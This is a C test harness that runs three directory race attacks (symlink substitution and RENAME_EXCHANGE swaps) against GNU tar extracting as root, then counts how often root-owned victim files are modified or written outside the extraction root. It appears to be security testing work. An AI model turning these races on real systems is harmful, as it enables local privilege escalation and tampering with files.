/* SPDX-License-Identifier: MIT */
/*
 * consumers/tar/race.c - the three directory races against GNU tar, run
 * as root extracting into a directory that a local user (uid 65534) can
 * write, with that user as the attacker.
 *
 *   race det  FAMILY BASE TAR ARCHIVE          one deterministic round
 *   race live FAMILY BASE TAR ARCHIVE ROUNDS   ROUNDS live rounds
 *   race hook FAMILY BASE                      (tar's checkpoint hook)
 *
 * BASE is a root-owned directory that the program fills per round:
 *   BASE/root      the extraction directory, owned by uid 65534, 0755
 *   BASE/outside   root's, 0755, holding "victim" (a 0600 file of root's)
 * ARCHIVE holds d/ (0777, uid 65534), d/pad (1 MiB), d/f, in that order.
 *
 * Families (what the attacker does once root/d is a directory of root's):
 *   a  rename d away, put a symlink d -> outside/victim in its place:
 *      hit if the victim's mode or owner changed (the deferred
 *      chmod/chown/utimes of d followed the symlink).
 *   b  renameat2(RENAME_EXCHANGE) d with root/keep, a 0755 directory of
 *      root's: hit if keep's inode changed owner or mode, or got "f".
 *   c  rename d away, put a symlink d -> outside in its place: hit if
 *      outside/f exists (d/f was written outside the extraction root).
 *
 * det runs tar with --checkpoint=1 --checkpoint-action=exec='race hook
 * ...': tar runs the hook at every record it reads; the hook drops to uid
 * 65534 and acts at the first call that finds root/d made (the 1 MiB
 * d/pad spans many records), so it acts between the mkdir of d and the
 * rest.  live forks an attacker (uid 65534) that spins on root/d and acts
 * as soon as it appears, while tar runs without any hook.
 * Prints "FAMILY MODE hits H/ROUNDS acted A", A the rounds in which the
 * attacker made its move, and exits 0 (1 on a setup error).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define ATTACKER 65534

static char root_dir[4096], outside_dir[4096], victim[4096];
static char family;

static void die(const char *what)
{
	fprintf(stderr, "race: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void paths(const char *base)
{
	snprintf(root_dir, sizeof root_dir, "%s/root", base);
	snprintf(outside_dir, sizeof outside_dir, "%s/outside", base);
	snprintf(victim, sizeof victim, "%s/outside/victim", base);
}

static void run(char *const argv[])
{
	pid_t pid = fork();
	int st;

	if (pid < 0)
		die("fork");
	if (pid == 0) {
		execvp(argv[0], argv);
		_exit(127);
	}
	if (waitpid(pid, &st, 0) < 0)
		die("waitpid");
}

static void drop(void)
{
	if (setgroups(0, NULL) || setresgid(ATTACKER, ATTACKER, ATTACKER) ||
	    setresuid(ATTACKER, ATTACKER, ATTACKER))
		die("dropping to uid 65534");
}

/* Fresh round: root/ (the user's), outside/ and outside/victim (root's),
 * root/keep (root's, family b). Returns an O_PATH descriptor of the
 * victim (file for a, directory keep for b, outside for c). */
static int setup(void)
{
	char *rm[] = { "rm", "-rf", root_dir, outside_dir, NULL };
	char keep[4200];
	int fd;

	run(rm);
	if (mkdir(root_dir, 0755) || chown(root_dir, ATTACKER, ATTACKER) ||
	    mkdir(outside_dir, 0755))
		die("setup");
	fd = open(victim, O_WRONLY | O_CREAT | O_EXCL, 0600);
	if (fd < 0)
		die("victim");
	close(fd);
	snprintf(keep, sizeof keep, "%s/keep", root_dir);
	if (family == 'b' && mkdir(keep, 0755))
		die("keep");
	fd = open(family == 'a' ? victim : family == 'b' ? keep : outside_dir,
		  O_PATH | O_CLOEXEC);
	if (fd < 0)
		die("open victim");
	return fd;
}

/* Did the round hit? vfd: from setup(). */
static int hit(int vfd)
{
	struct stat st;
	char f[4200];

	if (fstat(vfd, &st))
		die("fstat victim");
	switch (family) {
	case 'a':
		return st.st_uid != 0 || (st.st_mode & 07777) != 0600;
	case 'b':
		return st.st_uid != 0 || (st.st_mode & 07777) != 0755 ||
		       faccessat(vfd, "f", F_OK, AT_EACCESS) == 0 ||
		       faccessat(vfd, "pad", F_OK, AT_EACCESS) == 0;
	default:
		snprintf(f, sizeof f, "%s/f", outside_dir);
		return access(f, F_OK) == 0 || st.st_uid != 0 ||
		       (st.st_mode & 07777) != 0755;
	}
}

/* The attacker's move, once root/d is a directory of root's. 1 if done. */
static int attack(int rfd)
{
	struct stat st;

	if (fstatat(rfd, "d", &st, AT_SYMLINK_NOFOLLOW) || !S_ISDIR(st.st_mode) ||
	    st.st_uid != 0)
		return 0;
	switch (family) {
	case 'b':
		return renameat2(rfd, "d", rfd, "keep", RENAME_EXCHANGE) == 0;
	default:
		if (renameat(rfd, "d", rfd, "d.old"))
			return 0;
		return symlinkat(family == 'a' ? victim : outside_dir, rfd, "d") == 0;
	}
}

static int acted;	/* rounds in which the attacker made its move */

static int round_once(const char *self, const char *base, const char *tar,
		      const char *archive, int live)
{
	char hookcmd[8192];
	int vfd = setup(), h;
	pid_t atk = -1;

	snprintf(hookcmd, sizeof hookcmd, "exec=%s hook %c %s", self, family, base);
	if (live) {
		atk = fork();
		if (atk < 0)
			die("fork");
		if (atk == 0) {
			int rfd = open(root_dir, O_PATH | O_DIRECTORY);

			drop();
			/* (after drop: a change of credentials clears it) */
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			for (;;)
				if (attack(rfd))
					_exit(0);
		}
	}
	{
		char *argv[] = { (char *)tar, "-x", "-f", (char *)archive, "-C",
				 root_dir, live ? NULL : "--checkpoint=1",
				 "--checkpoint-action", hookcmd, NULL };
		pid_t pid = fork();
		int st;

		if (pid == 0) {
			int null = open("/dev/null", O_WRONLY);

			dup2(null, 1);
			dup2(null, 2);
			execv(argv[0], argv);
			_exit(127);
		}
		waitpid(pid, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 127)
			die("exec tar");
	}
	if (live) {
		int st;

		kill(atk, SIGKILL);
		waitpid(atk, &st, 0);
		acted += WIFEXITED(st) && WEXITSTATUS(st) == 0;
	} else {
		char done[4200];

		snprintf(done, sizeof done, "%s/.attacked", root_dir);
		acted += access(done, F_OK) == 0;
	}
	h = hit(vfd);
	close(vfd);
	return h;
}

int main(int argc, char **argv)
{
	char self[4096];
	ssize_t n;

	if (argc < 4 || strlen(argv[2]) != 1 || !strchr("abc", argv[2][0])) {
		fprintf(stderr, "usage: race det|live|hook a|b|c BASE [TAR ARCHIVE [ROUNDS]]\n");
		return 2;
	}
	family = argv[2][0];
	paths(argv[3]);
	if (!strcmp(argv[1], "hook")) {
		/* Run by tar (root) at each checkpoint: act once, as the user. */
		char done[4200];
		int rfd = open(root_dir, O_PATH | O_DIRECTORY);

		if (rfd < 0)
			return 0;
		drop();
		snprintf(done, sizeof done, "%s/.attacked", root_dir);
		if (access(done, F_OK) == 0)
			return 0;
		if (attack(rfd))
			close(open(done, O_WRONLY | O_CREAT, 0644));
		return 0;
	}
	if (argc < 6)
		return 2;
	n = readlink("/proc/self/exe", self, sizeof self - 1);
	if (n < 0)
		die("readlink /proc/self/exe");
	self[n] = 0;
	if (!strcmp(argv[1], "det")) {
		int h = round_once(self, argv[3], argv[4], argv[5], 0);

		printf("%c det hits %d/1 acted %d\n", family, h, acted);
		return 0;
	}
	if (!strcmp(argv[1], "live") && argc == 7) {
		int rounds = atoi(argv[6]), hits = 0;

		for (int i = 0; i < rounds; i++)
			hits += round_once(self, argv[3], argv[4], argv[5], 1);
		printf("%c live hits %d/%d acted %d\n", family, hits, rounds, acted);
		return 0;
	}
	return 2;
}
